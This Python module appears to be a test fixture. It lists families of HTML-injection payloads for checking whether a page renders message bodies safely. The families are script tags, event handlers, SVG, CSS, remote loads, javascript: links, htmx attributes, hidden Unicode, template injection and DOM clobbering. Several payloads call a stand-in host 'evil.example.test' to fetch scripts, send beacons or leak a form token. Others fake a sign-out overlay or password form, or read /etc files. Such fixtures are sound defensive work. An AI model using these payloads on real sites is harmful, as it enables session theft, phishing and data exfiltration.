"""Message bodies that try to become part of the page that shows them, by family.

RUN is what each tries to do: set a mark on the window. HOST is a server nobody runs; any request
to it would be seen leaving.
"""

from __future__ import annotations

from itertools import product

HOST = "http://evil.example.test"
RUN = "window.ran=1"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src={HOST}/a.js></script>",
    f"<script type=module>import '{HOST}/b.js'</script>",
    f"<script type=text/hyperscript>call {RUN}</script>",
    f"</div></section></main><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script\n>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<template><script>{RUN}</script></template>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\x00<script>{RUN}</script>",
    f"<\x00script>{RUN}</script>",
    f"\udc3cscript>{RUN}</script>",
    f"<script>setInterval(()=>{{fetch('{HOST}/c')}},1)</script>",
    f"<script>navigator.sendBeacon('{HOST}/d')</script>",
    "<script>new WebSocket('ws://evil.example.test/e')</script>",
    f"<script>document.forms[0].submit();{RUN}</script>",
]

EVENTS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
TAGS = ("img src=x", "body", "input autofocus", "details open", "video src=x", "style", "iframe")
HANDLERS = [f"<{tag} {name}={RUN}>" for tag, name in product(TAGS, EVENTS)]

SVG = [
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href='javascript:{RUN}'><text x=9 y=9>press</text></a></svg>",
    f"<svg><use href='{HOST}/f.svg#x'/></svg>",
    f"<svg><image href='{HOST}/g.png'/></svg>",
    f"<svg><foreignObject><iframe src='{HOST}/h'></iframe></foreignObject></svg>",
    f"<svg><style>@import '{HOST}/i.css';</style></svg>",
    f"<svg><feImage href='{HOST}/j.png'/></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><handler type='text/javascript'>{RUN}</handler></svg>",
    f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
]

STYLES = [
    "<style>*{display:none!important}</style>",
    "<style>body{background:url(http://evil.example.test/k.png)}</style>",
    f"<style>@import url({HOST}/l.css);</style>",
    f"<link rel=stylesheet href={HOST}/m.css>",
    f"<div style=\"background:url('{HOST}/n.png')\">x</div>",
    f"<div style='behavior:url({HOST}/o.htc)'>x</div>",
    f'<div style="width:expression({RUN})">x</div>',
    "<div style='position:fixed;inset:0;z-index:9999;background:white'>Signed out. Sign in again.</div>",
    f"<style>@font-face{{font-family:x;src:url({HOST}/p.woff)}}body{{font-family:x}}</style>",
    f"<style>input[name=form_token][value^=a]{{background:url({HOST}/q)}}</style>",
    "</style><style>.bar{position:absolute;left:-9999px}</style>",
]

REMOTE = [
    f"<img src={HOST}/r.png>",
    f"<img srcset='{HOST}/s.png 2x'>",
    f"<picture><source srcset={HOST}/t.webp><img src=x></picture>",
    f"<video poster={HOST}/u.png src={HOST}/u.mp4 autoplay></video>",
    f"<audio src={HOST}/v.mp3 autoplay></audio>",
    f"<iframe src={HOST}/w></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={HOST}/x.swf></object>",
    f"<embed src={HOST}/y.swf>",
    f"<link rel=preload as=image href={HOST}/z.png>",
    "<link rel=dns-prefetch href=//evil.example.test>",
    f"<link rel=prefetch href={HOST}/aa>",
    f"<meta http-equiv=refresh content='0;url={HOST}/bb'>",
    f"<base href={HOST}/>",
    f"<input type=image src={HOST}/cc.png>",
    f"<body background={HOST}/dd.png>",
    f"<table background={HOST}/ee.png><tr><td>x</td></tr></table>",
    f"<frameset><frame src={HOST}/ff></frameset>",
    f"<portal src={HOST}/gg></portal>",
    f"<applet code={HOST}/hh.class></applet>",
    f"![x]({HOST}/ii.png)",
    f"<track src={HOST}/jj.vtt>",
]

SCHEMES = ("javascript:" + RUN, "JaVaScRiPt:" + RUN, "java\tscript:" + RUN, "\x01javascript:" + RUN, f"data:text/html,<script>{RUN}</script>", f"vbscript:{RUN}", "file:///etc/hostname", f"{HOST}/kk", "//evil.example.test/ll", "blob:x", "intent://evil#Intent;end", "https://xn--80ak6aa92e.example.test")  # fmt: skip
LINKS = [f'<a href="{scheme}">Your lesson</a> {scheme}' for scheme in SCHEMES]
LINKS += [
    f"<form action={HOST}/mm><input name=password><button autofocus>Sign in again</button></form>",
    f"<a href={HOST}/nn ping={HOST}/oo target=_blank>x</a>",
    f"<button form=decide name=action value=release formaction={HOST}/pp>Release</button>",
    "<input form=decide name=action value=release><label for=reason>x</label>",
    f"<isindex action={HOST}/qq>",
]

HTMX = [
    f"<div hx-get='{HOST}/rr' hx-trigger='load'></div>",
    "<div hx-get='/counter' hx-trigger='load' hx-target='body'></div>",
    "<div hx-post='/cases/case03/claim' hx-trigger='load'></div>",
    "<div hx-delete='/' hx-trigger='revealed'></div>",
    f"<div hx-on:click='{RUN}' hx-on::load='{RUN}'>x</div>",
    f'<div hx-on="htmx:load: {RUN}">x</div>',
    f"<div data-hx-get='{HOST}/ss' data-hx-trigger='load'></div>",
    f"<div hx-get='/' hx-vals='js:{{a:{RUN}}}' hx-trigger='load'></div>",
    f"<div hx-get='/' hx-headers='js:{{a:{RUN}}}' hx-trigger='every 1s'></div>",
    f"<div hx-get='/' hx-trigger='load[{RUN}]'></div>",
    f"<div hx-ext='{HOST}/tt.js'></div>",
    "<div hx-swap-oob='true' id='main'>Nothing to decide here</div>",
    f"<div hx-boost='true'><a href='{HOST}/uu'>x</a></div>",
    "<div hx-disable='false' hx-get='/next' hx-trigger='load'></div>",
    "<form hx-post='/sign-out' hx-trigger='load'></form>",
    f"<meta name='htmx-config' content='{{\"allowEval\":true}}'><div hx-get='/' hx-vars='a:{RUN}' hx-trigger='load'>",
    "<div sse-connect='/'></div><div ws-connect='/'></div>",
    f"<div _='on load call {RUN}'></div><div x-data x-init='{RUN}' v-html='{RUN}' ng-app>{{{{constructor.constructor('{RUN}')()}}}}</div>",
]

UNSEEN = [
    "\u202egnp.exe\u202c", "\u2066\u202eesaeler\u2069", "a\u200bb\u200cc\u200dd\ufeffe", "\u2028\u2029x", "\u00ad" * 50,
    "\u061c\u200e\u200f mixed \u2067right\u2069", "\u3164\u115f\u1160\uffa0\u2800", "e" + "\u0301" * 200, "\ufffc\ufff9x\ufffb",
    "\U000e0041\U000e0042\U000e007f", "\ud83d alone", "\x1b[31mred\x07", "\x08\x08\x08gone", "\u180e\u034f\u17b4", "\u202d123\u202c",
    "\ue000\uf8ff private", "\uffff\ufdd0",
]  # fmt: skip

TEMPLATES = [
    "{{ 7*7 }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__}}",
    "%s %d %(name)s", "\\x3cimg src=x onerror=window.ran=1\\x3e", "`${window.ran=1}`", "'-alert(1)-'", "\"><img src=x onerror=window.ran=1>",
    "' onmouseover='window.ran=1", "&quot;&gt;&lt;img src=x onerror=window.ran=1&gt;",
]  # fmt: skip

CLOBBER = [
    "<form id=decide><input name=requestSubmit></form>",
    "<img name=getElementById>",
    "<input id=reason value='It is fine' required>",
    "<a id=htmx></a><a id=htmx name=config></a>",
    "<div data-key=r data-keys=on>x</div><body data-keys=off>",
    "<mark data-findings='1'>not a mark</mark><a class=number href=#finding-1>1</a>",
    "<dialog open>Signed out</dialog>",
    "<div contenteditable autofocus>x</div>",
    "<plaintext>",
    "<!--",
    "<![CDATA[",
    "<xmp></xmp><listing>",
    "<select><option>" * 50,
    "<div>" * 3_000,
]

FAMILIES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "svg": SVG,
    "styles": STYLES,
    "remote": REMOTE,
    "links": LINKS,
    "htmx": HTMX,
    "unseen": UNSEEN,
    "templates": TEMPLATES,
    "clobber": CLOBBER,
}
